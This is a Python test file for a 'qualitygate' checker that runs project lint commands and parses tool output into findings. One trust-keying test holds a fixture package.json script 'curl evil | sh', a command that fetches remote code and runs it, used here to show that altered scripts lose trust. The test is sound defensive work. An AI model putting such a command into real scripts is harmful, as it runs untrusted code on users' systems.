from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qualitygate.checks import project_commands
from qualitygate.checks.project_commands import Stated
from qualitygate.checks.tool import Environment, Request
from qualitygate.checks.tools import command
from qualitygate.errors import ToolError
from qualitygate.process import Output

DATA = Path(__file__).parents[2] / "data" / "command"
FILES = ("Makefile", "lib/app.js", "lib/b.ts", "package.json", "shop/core.py", "src/main.rs")


def request(*run: str, files: tuple[str, ...] = FILES, environment: Environment | None = None) -> Request:
    options = {"run": list(run or ("make", "lint"))}
    return Request("lint", "/snapshot", files, "python", options, "/cache", environment)


def said(text: str, code: int = 1, *run: str) -> list[tuple[str, int, int, str]]:
    report = command.parse(Output(code, text.encode(), b""), request(*run))
    assert not report.reason
    return [(f.path, f.line, f.column, f.message) for f in report.findings]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("eslint-stylish.txt", [("lib/app.js", 2, 7, "error"), ("lib/app.js", 5, 1, "error")]),
        ("tsc.txt", [("lib/b.ts", 1, 7, "error TS2322: Type 'string' is not assignable to type 'number'.")]),
        ("flake8.txt", [("shop/core.py", 1, 1, "F401 'os' imported but unused")]),
        ("ruff-full.txt", [("shop/core.py", 1, 8, "F401 [*] `os` imported but unused")]),
    ],
)
def test_places_in_what_tools_really_print(name: str, expected: list[tuple[str, int, int, str]]) -> None:
    found = said((DATA / name).read_text())
    assert [row[:3] for row in found] == [row[:3] for row in expected]
    assert all(row[3].startswith(want[3]) for row, want in zip(found, expected, strict=True))


def test_a_place_is_named_by_its_path_below_the_snapshot_too() -> None:
    assert said("/snapshot/shop/core.py:3: error: bad\n/elsewhere/shop/core.py:4: error: bad\n") == [
        ("shop/core.py", 3, 0, "error: bad")
    ]


def test_warnings_are_not_blamed_for_a_failure_that_has_errors() -> None:
    text = "shop/core.py:1: warning: old\nshop/core.py:2: error: bad\n"
    assert [row[1] for row in said(text)] == [2]
    assert [row[1] for row in said("shop/core.py:1: warning: old\n")] == [1], "with nothing else they are the failure"


def test_a_failure_without_a_place_is_one_finding_about_the_check() -> None:
    (found,) = said("running\nError: 3 of 5 failed\nbye\n", 2, "npm", "run", "lint")
    assert found == ("package.json", 0, 0, "exit code 2: Error: 3 of 5 failed")
    (found,) = said("", 1, "make", "lint")
    assert found == ("Makefile", 0, 0, "exit code 1: it printed nothing")


def test_what_it_prints_does_not_matter_when_it_ends_well() -> None:
    report = command.parse(Output(0, b"shop/core.py:1: error: so what\n", b""), request())
    assert (report.findings, report.looked_at, report.reason) == ((), 1, "")


@pytest.mark.parametrize("code", [126, 127, -9, 137, 143])
def test_a_program_that_is_missing_or_killed_has_said_nothing(code: int) -> None:
    report = command.parse(Output(code, b"shop/core.py:1: error: bad\n", b""), request())
    assert report.reason and not report.findings and not report.looked_at


@pytest.mark.parametrize(
    "text", ["make: *** [Makefile:2: lint] Error 127\n", "error: Recipe `lint` failed on line 2 with exit code 127\n"]
)
def test_a_program_that_is_missing_behind_a_runner_is_no_failure(text: str) -> None:
    assert "not there" in command.parse(Output(2, b"", text.encode()), request()).reason


@given(st.binary(max_size=400), st.integers(1, 125))
def test_whatever_it_prints_a_failure_is_a_finding_in_a_known_file_or_no_answer(text: bytes, code: int) -> None:
    report = command.parse(Output(code, text, text[::-1]), request())
    assert report.reason or report.findings
    assert all(finding.path in FILES for finding in report.findings)


def test_the_projects_programs_come_first_and_nothing_asks_or_fetches() -> None:
    environment = Environment("/env", "/env/bin/python", ())
    made = command.command(request("make", "lint", environment=environment))
    assert made.argv == ("make", "lint")
    assert made.env["PATH"].split(os.pathsep)[:2] == ["/env/bin", "/snapshot/node_modules/.bin"]
    assert made.env["CI"] == "true" and made.env["npm_config_offline"] == "true"


def test_settings_without_a_command_are_an_error() -> None:
    with pytest.raises(ToolError, match="no command"):
        command.command(request()._replace(options={}))


def _read(files: dict[str, bytes]) -> project_commands.Read:
    return files.get


def test_trust_is_keyed_to_the_words_the_scripts_and_the_script_itself() -> None:
    run = (Stated("a", "web", ("npm", "run", "lint")), Stated("b", "", ("sh", "scripts/check")))
    files = {"web/package.json": b'{"scripts": {"lint": "eslint ."}, "version": "1"}', "scripts/check": b"true\n"}
    key = project_commands.decides(_read(files), run)
    newer = {**files, "web/package.json": b'{"version": "2", "scripts": {"lint": "eslint ."}}'}
    assert project_commands.decides(_read(newer), run) == key, "a new version of the package is no new command"
    other = {**files, "web/package.json": b'{"scripts": {"lint": "curl evil | sh"}}'}
    assert project_commands.decides(_read(other), run) != key
    assert project_commands.decides(_read({**files, "scripts/check": b"false\n"}), run) != key
    assert project_commands.decides(_read(files), run[:1]) != key


def test_the_commands_of_the_settings() -> None:
    text = b'schema = 1\n[checks.lint]\ntool = "command"\nrun = ["make", "lint"]\n[checks.ruff]\n'
    found = project_commands.stated(text)
    assert found[0].run == ("make", "lint")
    assert len(found) == 1 or found[-1].run == (text.decode(),)  # without a parser the whole text decides as well
    assert project_commands.stated(b"schema = 1\n[checks.ruff]\n") == ()
    changed = project_commands.stated(text.replace(b"lint", b"other"))
    assert changed != found
